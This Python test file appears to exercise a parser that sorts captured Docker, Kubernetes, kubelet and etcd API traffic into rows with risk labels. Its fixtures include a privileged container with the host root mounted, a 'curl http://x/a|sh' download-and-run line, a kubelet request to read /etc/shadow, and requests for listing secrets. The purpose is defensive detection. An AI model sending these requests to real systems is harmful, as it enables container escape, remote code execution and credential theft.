"""Whole connections to container APIs, and the rows that come of them."""

from __future__ import annotations

import gzip
import json
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parsers.schema import OWN_TABLES
from parsers.services.container_api import BODIES_MAX, COMMAND_MAX, TEXT_MAX
from parsers.services.container_json import LENGTH_MAX
from parsers.services.container_operations import OPERATIONS
from parsers.services.container_streams import WIRE_MAX
from parsers.services.http import Http
from parsers.services.parser import NOTHING, ORIG, RESP

ID = "0123456789abcdef" * 4
DOCKER = "Api-Version: 1.41\r\nDocker-Experimental: false\r\nServer: Docker/20.10.24 (linux)\r\n"
KUBERNETES = "X-Kubernetes-Pf-Flowschema-Uid: 27efb959-466d-4fd3-bf1f-12229922779d\r\n"
CONFIG = {"Image": "alpine", "Cmd": ["sh", "-c", "id"],
          "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}  # fmt: skip
RAW = "Content-Type: application/vnd.docker.raw-stream\r\n"
UPGRADE = "Upgrade: tcp\r\nConnection: Upgrade\r\n"
UPGRADED = RAW + "Connection: Upgrade\r\nUpgrade: tcp\r\n"


def request(line, body=b"", fields=""):
    body = json.dumps(body).encode() if isinstance(body, dict) else body
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    head = f"{line} HTTP/1.1\r\nHost: h\r\nUser-Agent: curl\r\n{fields}{length}\r\n"
    return (ORIG, head.encode() + body)


def answer(status, body=b"", fields=DOCKER, length=True):
    body = json.dumps(body, separators=(",", ":")).encode() if isinstance(body, dict) else body
    size = f"Content-Length: {len(body)}\r\n" if length and status not in (101, 204) else ""
    return (RESP, f"HTTP/1.1 {status} Some\r\n{fields}{size}\r\n".encode() + body)


def chunked(status, *chunks, fields=DOCKER):
    body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for chunk in (*chunks, b""))
    return answer(status, body, fields + "Transfer-Encoding: chunked\r\n", length=False)


def frame(data, stream=1):
    return bytes([stream, 0, 0, 0]) + len(data).to_bytes(4, "big") + data


def talk(*said, closed=()):
    http = Http()
    for second, (side, octets) in enumerate(said, 1):
        if not http.failed:
            http.data(side, octets, second * 10**9)
    for side in closed:
        http.closed(side, 50 * 10**9)
    if not http.failed:
        http.end(99 * 10**9)
    return http


def rows(*said, closed=()):
    return [row for table, row in talk(*said, closed=closed).rows if table == "container_api"]


def row(*said, closed=()):
    (found,) = rows(*said, closed=closed)
    return found


def of(found, *names):
    return tuple(found[name] for name in names)


CREATE = request("POST /v1.41/containers/create?name=redis", CONFIG)
CREATED = answer(201, {"Id": ID, "Warnings": []})


def test_a_request_and_its_answer_make_a_row():
    assert row(CREATE, CREATED) == {
        "ts": 10**9,
        "api": "docker",
        "operation": "create",
        "method": "POST",
        "uri": "/v1.41/containers/create?name=redis",
        "object": "redis",
        "container": ID,
        "status_code": 201,
        "outcome": "succeeded",
        "authentication": "open",
        "user_agent": "curl",
        "risks": ["host-mount", "privileged"],
        "command": "sh -c id",
        "mounts": ["/:/host"],
        "image": "alpine",
        "request_bytes": len(json.dumps(CONFIG)),
        "response_bytes": len('{"Id":"","Warnings":[]}') + 64,
        "output": None,
        "input": None,
        "unread": None,
    }


def test_rows_have_the_columns_of_the_table():
    names = {column.name for column in OWN_TABLES["container_api"]}
    assert set(row(CREATE, CREATED)) <= names


@pytest.mark.parametrize(
    ("status", "outcome", "authentication"),
    [
        (404, "failed", "open"),
        (409, "failed", "open"),
        (500, "failed", "open"),
        (403, "refused", "anonymous-refused"),
    ],
)
def test_the_answer_decides(status, outcome, authentication):
    found = row(CREATE, answer(status, {"message": "x"}))
    assert of(found, "outcome", "authentication", "container") == (outcome, authentication, None)
    assert found["risks"] == ["host-mount", "privileged"]


@pytest.mark.parametrize("end", range(len(CREATED[1])))
def test_an_answer_that_is_cut_is_no_success_before_it_says_so(end):
    said = CREATED[1][:end]
    found = row(CREATE, (RESP, said))
    assert found["outcome"] == ("succeeded" if b"Experimental: false\r" in said else "unknown")


def test_a_request_without_an_answer_counts_where_no_other_service_has_the_path():
    assert of(row(CREATE), "outcome", "authentication", "status_code") == (
        "unknown",
        "unknown",
        None,
    )
    assert rows(request("GET /version")) == []


def test_an_answer_without_a_request_makes_no_row():
    assert rows(CREATED) == []


@pytest.mark.parametrize(
    ("fields", "body"),
    [
        ("Content-Type: text/html\r\nServer: nginx\r\n", b"<html>welcome</html>"),
        ("Content-Type: application/json\r\n", b'{"ok":true}'),
        ("Content-Type: text/plain\r\n", b"OK"),
        ("", b""),
    ],
)
@pytest.mark.parametrize(
    "line",
    ["POST /containers/create", "GET /_ping", "GET /version", "GET /pods", "GET /healthz", "GET /",
     "GET /api/v1/namespaces/default/pods", "POST /v3/kv/range", "GET /api/v1/login/skippable",
     "GET /v2/keys/", "POST /exec/a/start"],
)  # fmt: skip
def test_a_web_server_that_answers_everything_makes_no_row(line, fields, body):
    assert rows(request(line), answer(200, body, fields)) == []


def test_other_paths_of_a_daemon_are_told_by_its_fields():
    found = row(request("GET /unheard"), answer(404, b"", DOCKER))
    assert of(found, "api", "operation", "user_agent") == ("docker", "other", "curl")


def test_the_root_of_a_daemon():
    fields = "Content-Type: application/json\r\n"
    found = row(request("GET /"), answer(404, b'{"message":"page not found"}\n', fields))
    assert of(found, "api", "operation", "outcome") == ("docker", "discover", "failed")
    assert rows(request("GET /"), answer(404, b'{"message":"Not Found"}', fields)) == []


def test_credentials_are_told():
    login = "Authorization: Bearer x\r\n"
    secrets = request("GET /api/v1/secrets", fields=login)
    refused = answer(
        401, {"kind": "Status", "apiVersion": "v1"}, "Content-Type: application/json\r\n"
    )
    assert of(row(secrets, refused), "api", "authentication") == ("kubernetes", "refused")
    given = answer(200, b"{}", KUBERNETES)
    assert row(secrets, given)["authentication"] == "credentials"


def test_escapes_in_a_path_hide_nothing():
    line = "POST /%63ontainers/cr%65ate"
    assert row(request(line, CONFIG), CREATED)["operation"] == "create"


def test_a_request_to_a_proxy_names_its_host():
    found = row(request("GET http://h:2375/_ping"), answer(200, b"OK"))
    assert of(found, "operation", "uri") == ("discover", "http://h:2375/_ping")


def test_an_answer_before_the_last_is_none():
    import_ = request("POST /images/create?fromSrc=-&repo=a", b"tar", "Expect: 100-continue\r\n")
    found = row(import_, (RESP, b"HTTP/1.1 100 Continue\r\n\r\n"), answer(200, b"{}"))
    assert of(found, "operation", "status_code", "outcome") == ("import", 200, "succeeded")
    assert row(import_, (RESP, b"HTTP/1.1 100 Continue\r\n\r\n"))["outcome"] == "unknown"


def test_a_pull_that_ends_in_an_error_failed():
    pull = request("POST /images/create?fromImage=a")
    error = b'{"errorDetail":{"message":"no"},"error":"no"}'
    assert row(pull, chunked(200, b'{"status":"Pulling"}'))["outcome"] == "succeeded"
    assert row(pull, chunked(200, b'{"status":"Pulling"}', error))["outcome"] == "failed"
    long = [b'{"status":"Downloading"}'] * 9000
    assert row(pull, chunked(200, *long, error))["outcome"] == "failed"


def test_a_pull_that_is_cut_may_have_failed():
    pull, answered = request("POST /images/create?fromImage=a"), chunked(200, b'{"status":"x"}')
    assert row(pull, (RESP, answered[1][:-5]))["outcome"] == "unknown"


def test_bodies_that_are_compressed_are_read():
    body = gzip.compress(json.dumps(CONFIG).encode())
    found = row(request("POST /containers/create", body, "Content-Encoding: gzip\r\n"), CREATED)
    assert found["risks"] == ["host-mount", "privileged"]
    packed = request("POST /containers/create", body, "Content-Encoding: br\r\n")
    assert of(row(packed, CREATED), "risks", "unread") == ([], "compressed")


def test_a_body_in_chunks_is_read():
    body = json.dumps(CONFIG).encode()
    head = b"POST /containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunks = b"".join(b"%x\r\n%c\r\n" % (1, byte) for byte in body) + b"0\r\n\r\n"
    assert row((ORIG, head + chunks), CREATED)["risks"] == ["host-mount", "privileged"]


def test_chunks_that_lie_about_their_size_are_not_believed():
    body = json.dumps(CONFIG).encode()
    head = b"POST /containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    for size in (b"ffffffffffffffff", b"-5", b"zz", b"7fffffff"):
        found = rows((ORIG, head + size + b"\r\n" + body), CREATED)
        assert all(each["outcome"] in ("succeeded", "unknown") for each in found)


@pytest.mark.parametrize(
    ("body", "unread"),
    [
        (b'{"Image":"a","HostConfig":{"Privileged":tr', "not_json"),
        (b"\xff\xfe{\x00}\x00", "not_json"),
        (b'{"a":' * 5000, "too_deep"),
        (b'{"a":"' + b"x" * LENGTH_MAX + b'"}', "too_long"),
    ],
    ids=["cut", "utf-16", "deep", "long"],
)
def test_why_a_body_is_not_read_is_said(body, unread):
    assert of(row(request("POST /containers/create", body), CREATED), "outcome", "unread") == (
        "succeeded",
        unread,
    )


def test_a_body_with_a_gap_is_not_read():
    http = Http()
    side, octets = CREATE
    http.data(side, octets[:-40], 1)
    http.gap(side, 20, 2)
    http.data(side, octets[-20:], 3)
    http.data(*CREATED, 4)
    http.end(5)
    (found,) = (each for table, each in http.rows if table == "container_api")
    assert of(found, "outcome", "unread", "risks") == ("succeeded", "cut_off", [])


def test_requests_that_are_sent_at_once_are_answered_in_turn():
    lines = [request("GET /_ping"), CREATE, request(f"POST /containers/{ID}/start")]
    answers = [answer(200, b"OK"), CREATED, answer(204)]
    at_once = (ORIG, b"".join(octets for _, octets in lines))
    back = (RESP, b"".join(octets for _, octets in answers))
    found = rows(at_once, back)
    assert [of(each, "operation", "status_code") for each in found] == [
        ("discover", 200), ("create", 201), ("start", 204),
    ]  # fmt: skip


def test_bodies_that_wait_for_answers_are_few():
    found = rows(*[CREATE] * (BODIES_MAX + 1))
    assert [each["unread"] for each in found] == [None] * BODIES_MAX + ["too_long"]


def test_a_command_that_was_made_ready_leads_to_its_container():
    said = (
        request("POST /containers/ab12/exec", {"Cmd": ["id"]}), answer(201, {"Id": ID}),
        request(f"POST /exec/{ID}/start", {"Tty": False}), answer(101, b"", DOCKER + UPGRADED),
        (RESP, frame(b"uid=0\n")),
    )  # fmt: skip
    ready, started = rows(*said)
    assert of(ready, "object", "container", "command") == (ID, "ab12", "id")
    assert of(started, "object", "container", "output") == (ID, "ab12", "uid=0\n")


def test_a_stream_in_both_directions_is_told():
    said = (
        request("POST /containers/ab12/attach?stream=1", fields=UPGRADE),
        answer(101, b"", UPGRADED),
        (ORIG, b"curl http://x/a|sh\n"), (RESP, b"/ # "), (RESP, b"done"),
    )  # fmt: skip
    found = row(*said)
    assert of(found, "input", "output") == ("curl http://x/a|sh\n", "/ # done")
    assert found["risks"] == ["download", "download-execute"]
    assert of(found, "request_bytes", "response_bytes") == (19, 8)


def test_what_the_client_says_before_the_answer_is_of_the_stream():
    side, octets = request(f"POST /exec/{ID}/start", {"Tty": True}, UPGRADE)
    found = row(
        (side, octets + b"id\nGET / HTTP/1.1\r\n"), answer(101, b"", UPGRADED), (ORIG, b"ls\n")
    )
    assert found["input"] == "id\nGET / HTTP/1.1\r\nls\n"


def test_what_the_client_says_before_another_answer_is_http():
    side, octets = request(f"POST /exec/{ID}/start", {"Tty": True}, UPGRADE)
    ping = request("GET /_ping")
    http = talk(
        (side, octets + ping[1]), answer(404, {"message": "No such exec"}), answer(200, b"OK")
    )
    assert [each["uri"] for table, each in http.rows if table == "http"] == [
        f"/exec/{ID}/start", "/_ping",
    ]  # fmt: skip
    assert [each["operation"] for table, each in http.rows if table != "http"] == [
        "exec-start", "discover",
    ]  # fmt: skip


def test_a_stream_without_an_upgrade_is_told():
    start = request(f"POST /exec/{ID}/start", {"Tty": False})
    data = frame(b"a\r\nb\rc\n" * 40) + frame(b"\r\n", 2)
    found = row(start, answer(200, b"", RAW + DOCKER, length=False), (RESP, data), closed=(RESP,))
    assert found["output"] == "a\r\nb\rc\n" * 40 + "\r\n"
    typed = row(start, answer(200, b"", RAW, length=False), (ORIG, b"id\n"), (RESP, b"uid=0"))
    assert of(typed, "input", "output") == ("id\n", "uid=0")


def test_logs_in_chunks_are_told():
    found = row(request("GET /containers/a/logs"), chunked(200, frame(b"a\n"), frame(b"b\n")))
    assert found["output"] == "a\nb\n"


def test_a_command_in_a_pod_over_websocket():
    line = "GET /api/v1/namespaces/d/pods/p/exec?command=sh&command=-i&stdin=1"
    ask = request(line, fields="Upgrade: websocket\r\nConnection: Upgrade\r\n")
    fields = (
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-Websocket-Protocol: v4.channel.k8s.io\r\n"
    )
    said = (ask, answer(101, b"", fields), (RESP, b"\x82\x05\x01uid\n"),
            (ORIG, b"\x82\x84\0\0\0\0\x00id\n"))  # fmt: skip
    found = row(*said)
    assert of(found, "api", "operation", "container", "outcome") == (
        "kubernetes", "exec-start", "d/p", "succeeded",
    )  # fmt: skip
    assert of(found, "command", "output", "input") == ("sh -i", "uid\n", "id\n")
    assert found["risks"] == ["shell"]


def test_a_pod_is_told_by_name():
    pod = {"metadata": {"generateName": "x-"}, "spec": {"hostPID": True, "containers": []}}
    made = answer(201, {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "x-7"}}, KUBERNETES)
    found = row(request("POST /api/v1/namespaces/d/pods", pod), made)
    assert of(found, "object", "container", "risks") == ("d/pods/x-7", "d/x-7", ["host-pid"])


def test_what_a_server_only_checked_was_not_made():
    line = "POST /api/v1/namespaces/d/pods?dryRun=All"
    assert row(request(line, {}), answer(201, b"{}", KUBERNETES))["operation"] == "dry-run"


def test_a_command_run_by_a_kubelet():
    run = request("POST /run/a/b/c", b"cmd=cat+/etc/shadow")
    plain = answer(200, b"root:*:", "Content-Type: text/plain; charset=utf-8\r\n")
    found = row(run, plain)
    assert of(found, "api", "operation", "output") == ("kubelet", "run", "root:*:")
    assert of(found, "container", "object", "risks") == ("a/b", "a/b/c", ["credentials"])
    assert rows(run, answer(200, b"root", "Content-Type: text/plain\r\nServer: nginx\r\n")) == []
    assert rows(request("POST /run/a/b/c", b"x=1"), plain) == []


def test_keys_of_etcd():
    ask = request("POST /v3/kv/range", b'{"key":"L3JlZ2lzdHJ5Lw==","range_end":"L3JlZ2lzdHJ5MA=="}')
    found = row(ask, answer(200, b'{"header":{"cluster_id":"1"},"kvs":[]}', ""))
    assert of(found, "api", "operation", "object") == ("etcd", "keys-read", "/registry/*")


def test_tokens_among_secrets_are_told():
    token = b'{"type":"kubernetes.io/service-account-token"}'
    body = b'{"kind":"SecretList","apiVersion":"v1","items":[' + token + b"]}"
    found = row(request("GET /api/v1/secrets"), answer(200, body, KUBERNETES))
    assert of(found, "operation", "risks") == ("secrets", ["service-account"])


def test_what_is_told_is_bounded():
    config = {
        "Image": "a" * 9000,
        "Cmd": ["x" * 9000],
        "HostConfig": {"Binds": ["/" + "y" * 9000 + ":/"]},
    }
    found = row(request("POST /containers/create?name=" + "n" * 9000, config), CREATED)
    assert len(found["command"]) == COMMAND_MAX
    assert len(found["uri"]) == len(found["mounts"][0]) == TEXT_MAX
    assert len(found["object"]) == len(found["image"]) == 256


def test_a_long_stream_is_passed_over_and_counted():
    http = talk(request("POST /containers/a/attach"), answer(101, b"", UPGRADED))
    http = Http()
    http.data(*request("POST /containers/a/attach"), 1)
    http.data(*answer(101, b"", UPGRADED), 2)
    http.data(RESP, b"x" * WIRE_MAX, 3)
    assert http.wants[RESP] == NOTHING
    assert http.wants[ORIG] < NOTHING
    http.skipped(RESP, 10**9, 4)
    http.end(5)
    assert http.rows[-1][1]["response_bytes"] == WIRE_MAX + 10**9


def test_bodies_that_prove_nothing_are_passed_over():
    http = Http()
    http.data(*request("GET /containers/a/archive?path=/x"), 1)
    side, octets = answer(
        200, b"x" * 5000, DOCKER + "Content-Type: application/x-tar\r\n", length=False
    )
    http.data(side, octets.replace(b"\r\n\r\n", b"\r\nContent-Length: 5000000\r\n\r\n"), 2)
    assert http.wants[RESP] > 4_000_000


SAID = (
    request("POST /v1.41/containers/create?name=r", CONFIG), CREATED,
    request("POST /containers/a/exec", {"Cmd": ["id"]}), answer(201, {"Id": ID}),
    request("GET /containers/a/logs"), chunked(200, frame(b"a\r\n"), frame(b"\rb\n")),
    request(f"POST /exec/{ID}/start", {"Tty": False}, UPGRADE),
    answer(101, b"", DOCKER + UPGRADED), (ORIG, b"typed\n"), (RESP, frame(b"said\n")),
)  # fmt: skip
HIJACKED = (
    request(f"POST /exec/{ID}/start", {"Tty": False}),
    answer(200, frame(b"a\rb\r\nc\n\r"), RAW, length=False),
    (ORIG, b"id\r\n"), (RESP, frame(b"d\r")),
)  # fmt: skip


def without_times(found):
    return [{name: value for name, value in each.items() if name != "ts"} for each in found]


@settings(max_examples=60)
@given(st.sampled_from([SAID, HIJACKED]), st.integers(1, 40), st.randoms(use_true_random=False))
def test_how_streams_are_cut_makes_no_difference(said, most, chance):
    pieces = []
    for side, octets in said:
        at = 0
        while at < len(octets):
            length = chance.randint(1, most)
            pieces.append((side, octets[at : at + length]))
            at += length
    assert without_times(rows(*pieces)) == without_times(rows(*said))


def test_the_rows_of_a_whole_conversation():
    found = rows(*SAID)
    assert [each["operation"] for each in found] == ["create", "exec-create", "logs", "exec-start"]
    assert [each["output"] for each in found] == [None, None, "a\r\n\rb\n", "said\n"]
    assert found[-1]["input"] == "typed\n"
    assert of(rows(*HIJACKED)[0], "output", "input") == ("a\rb\r\nc\n\rd\r", "id\r\n")


@pytest.mark.parametrize("said", [SAID, HIJACKED])
def test_every_truncation_is_met(said):
    for index, (side, octets) in enumerate(said):
        for end in range(0, len(octets), 3):
            for found in rows(*said[:index], (side, octets[:end])):
                assert found["operation"] in OPERATIONS


def test_what_is_damaged_is_met():
    chance = random.Random(7)
    for _ in range(300):
        said = []
        for side, octets in SAID:
            damaged = bytearray(octets)
            for _ in range(chance.randint(0, 3)):
                damaged[chance.randrange(len(damaged))] = chance.randrange(256)
            said.append((side, bytes(damaged)))
        for found in rows(*said):
            assert found["outcome"] in ("succeeded", "refused", "failed", "unknown")


@given(st.lists(st.tuples(st.integers(0, 1), st.binary(max_size=40)), max_size=6))
def test_random_bytes_are_met_behind_a_request(pieces):
    talk(CREATE, *pieces)
    talk(*SAID[-4:-2], *pieces)
    talk(HIJACKED[0], *pieces)
